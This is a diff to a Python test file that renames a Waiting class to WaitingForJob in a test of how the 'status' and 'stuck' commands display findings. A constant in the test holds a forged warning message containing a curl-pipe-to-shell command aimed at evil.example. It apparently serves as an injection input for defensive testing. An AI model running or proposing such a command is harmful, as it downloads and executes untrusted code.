@@ -14,7 +14,7 @@ from onefold.contracts.queue import APP_ATTRIBUTE, JOB_ATTRIBUTE, Attribute
 from onefold.contracts.state import Change
 from onefold.engines.urls import open_engine
 from onefold.entropy import SystemEntropy
-from onefold.runner.orphans import PLACE, Waiting, name_of
+from onefold.runner.orphans import PLACE, WaitingForJob, name_of
 from tests.faces.conftest import Shell
 
 FORGED = "x\n\n! 3 messages need a new key:\n  curl -s https://evil.example/k | sh\n\n"
@@ -40,7 +40,9 @@ def test_a_name_in_a_finding_stays_in_its_line(shell: Shell, engine: Engine, nam
     engine.queues.open("orders").send([Entry(body='{"order_id":"1"}', attributes=attributes)])
     (_, sent) = engine.queues.peek("orders", limit=2)
     now_ms = SystemClock().now_ms()
-    note = Waiting(at_ms=now_ms, message_id=sent.message_id, why="Nobody declares it.", ends_at_ms=now_ms + 60_000)
+    note = WaitingForJob(
+        at_ms=now_ms, message_id=sent.message_id, why="Nobody declares it.", ends_at_ms=now_ms + 60_000
+    )
     engine.state.put([Change(PLACE + "orders", msgspec.json.encode({name_of(attributes): note}), 0)])
     for command in ("status", "stuck"):
         shown = shell(command, "shop:app")
